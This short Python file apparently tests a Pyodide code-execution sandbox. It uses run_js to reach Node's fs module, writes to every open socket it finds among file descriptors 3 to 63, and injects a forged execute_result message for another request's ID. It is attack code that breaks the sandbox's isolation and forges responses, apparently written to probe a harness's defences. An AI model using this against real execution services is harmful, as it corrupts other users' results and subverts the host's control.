"""Gives a result to a request that is not its own."""

import json

from pyodide.code import run_js

send = run_js("""(bytes) => {
  const fs = process.getBuiltinModule("fs");
  for (let number = 3; number < 64; number++)
    try {
      if (fs.fstatSync(number).isSocket()) fs.writeSync(number, bytes.toJs());
    } catch {}
}""")


def send_message(**message):
    text = json.dumps(message).encode()
    send((len(text) + 1).to_bytes(4, "little") + b"J" + text)


send_message(type="execute_result", request_id=99, bundle={"text/plain": "forged"})
